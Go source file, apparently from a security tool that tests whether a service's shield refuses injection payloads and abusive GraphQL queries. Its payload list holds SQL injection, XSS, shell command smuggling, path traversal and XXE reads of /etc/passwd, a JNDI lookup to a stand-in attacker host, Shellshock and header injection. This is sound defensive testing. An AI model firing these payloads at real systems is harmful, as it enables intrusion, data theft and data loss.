package own

import (
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"

	"pavise.dev/pavise/internal/attack"
	"pavise.dev/pavise/internal/config"
	"pavise.dev/pavise/shield"
)

// payloads are what each detector cannot take for anything else. None changes anything where it comes
// through: what is dropped is not there.
func payloads() map[string][]string {
	return map[string][]string{
		"sql":        {"' or 1=1--", "1; drop table pavise_attack--", "x' union select password from users--"},
		"script":     {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>"},
		"shell":      {"; cat /etc/passwd", "$(id)"},
		"template":   {"{{7*7}}"},
		"ldap":       {"*)(uid=*))(|(uid=*"},
		"traversal":  {"../../../../etc/passwd"},
		"jndi":       {"${jndi:ldap://pavise-attack.example/a}"},
		"shellshock": {"() { :;}; /bin/bash -c id"},
		"header":     {"x\r\nSet-Cookie: session=evil"},
		"nosql":      {`{"$ne": null}`},
		"xxe":        {`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`},
	}
}

// injections send what becomes code where a service uses it, to endpoints that look for it.
func (p *planner) injections() {
	for _, at := range p.r.places {
		if at.Injection == nil || len(at.Sanitise) > 0 {
			continue
		}
		if _, tried := at.Trial(config.TrialInjection); tried {
			continue
		}
		for _, detector := range sortedNames(payloads()) {
			if len(at.Injection.Detectors) > 0 && !slices.Contains(at.Injection.Detectors, detector) {
				continue
			}
			for i, payload := range payloads()[detector] {
				for _, place := range []string{"query", "body"} {
					if place == "body" && !hasBody(at) || excepted(at, place) {
						continue
					}
					p.add(at, "injection-passes", fmt.Sprintf("%s %d in the %s", detector, i+1, place), 111, p.through(at), func(t *try) error { return t.inject(at, place, payload) })
				}
			}
		}
	}
}

// excepted reports whether the configuration leaves something of a place alone.
func excepted(at *place, where string) bool {
	return slices.ContainsFunc(at.Injection.Except, func(e config.InjectionException) bool { return strings.HasPrefix(e.What, where) })
}

// inject puts a payload where the description has room for a text; where it has none it is refused
// as input.
func (t *try) inject(at *place, where, payload string) error {
	d, err := t.r.sample(at)
	if err != nil {
		return err
	}
	d = d.clone()
	if where == "query" {
		name := "pavise"
		if len(d.words) > 0 {
			name = d.words[0]
		}
		path, _, _ := strings.Cut(d.target, "?")
		d.target = path + "?" + name + "=" + url.QueryEscape(payload)
	} else if d.body, err = t.bodyWith(d, payload); err != nil {
		return err
	}
	return t.draftWith(at, d, refused(shield.Injection, shield.InvalidInput, shield.BadQuery, shield.UnsupportedMedia), "an injection in the "+where)
}

func (t *try) bodyWith(d draft, payload string) ([]byte, error) {
	object, put := map[string]any{}, false
	for name, v := range d.members {
		if object[name] = v; isText(v) {
			object[name], put = payload, true
		}
	}
	if !put {
		return nil, attack.ErrNotHere
	}
	text, err := json.Marshal(object)
	if err != nil {
		return nil, fmt.Errorf("write a body: %w", err)
	}
	return text, nil
}

func isText(v any) bool {
	_, ok := v.(string)
	return ok
}

// graphQL asks for more than one request may, and as pages of others would.
func (p *planner) graphQL() {
	for _, at := range p.r.places {
		g := at.GraphQL
		if g == nil {
			continue
		}
		if _, tried := at.Trial(config.TrialGraphQL); tried {
			continue // it is only recorded, as the configuration says
		}
		for _, one := range []struct {
			name, query string
			allowed     bool
		}{
			{"aliases", "{ " + aliases(g.Aliases+10) + "}", false},
			{"depth", strings.Repeat("{ a ", g.Depth+5) + strings.Repeat("}", g.Depth+5), false},
			{"introspection", "{ __schema { types { name } } }", g.Introspection},
			{"a directive repeated", "{ __typename " + strings.Repeat("@a ", g.Directives+5) + "}", false},
			{"a mutation by GET", "mutation { __typename }", hasBody(at)},
		} {
			if !one.allowed {
				p.add(at, "contract", "GraphQL: "+one.name, 110, p.through(at), func(t *try) error { return t.ql(at, one.query, "") })
			}
		}
		if !hasBody(at) {
			continue
		}
		if g.Batch < batchOf {
			p.add(at, "contract", "GraphQL: a batch", 110, p.through(at), func(t *try) error { return t.ql(at, "{ __typename }", batched) })
		}
		for _, media := range []string{"application/x-www-form-urlencoded", "text/plain"} {
			p.add(at, "contract", "GraphQL: a mutation as "+media, 110, p.through(at), func(t *try) error { return t.ql(at, "mutation { __typename }", media) })
		}
	}
}

// batchOf is how many requests a batch has that goes beyond bounds, and batched says that there is one.
const (
	batchOf = 500
	batched = "a batch"
)

func aliases(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "a%d: __typename ", i)
	}
	return b.String()
}

// ql sends a request in GraphQL: as JSON, by GET where the endpoint has that, as a batch, or said to be of
// another media type.
func (t *try) ql(at *place, query, how string) error {
	d, err := t.r.sample(at)
	if err != nil {
		return err
	}
	d = d.clone()
	one, err := json.Marshal(map[string]string{"query": query})
	if err != nil {
		return fmt.Errorf("write a request in GraphQL: %w", err)
	}
	path, _, _ := strings.Cut(d.target, "?")
	switch {
	case !hasBody(at):
		d.target = path + "?query=" + url.QueryEscape(query)
	case how == "":
		d.body = one
	case how == batched:
		d.body = []byte("[" + strings.Repeat(string(one)+",", batchOf-1) + string(one) + "]")
	case how == "text/plain":
		d.body = one
		d.header.Set("Content-Type", how)
	default:
		d.body = []byte("query=" + url.QueryEscape(query))
		d.header.Set("Content-Type", how)
	}
	return t.draftWith(at, d, refused(shield.GraphQLRefused, shield.InvalidInput, shield.TooLarge, shield.UnsupportedMedia), "a request in GraphQL")
}
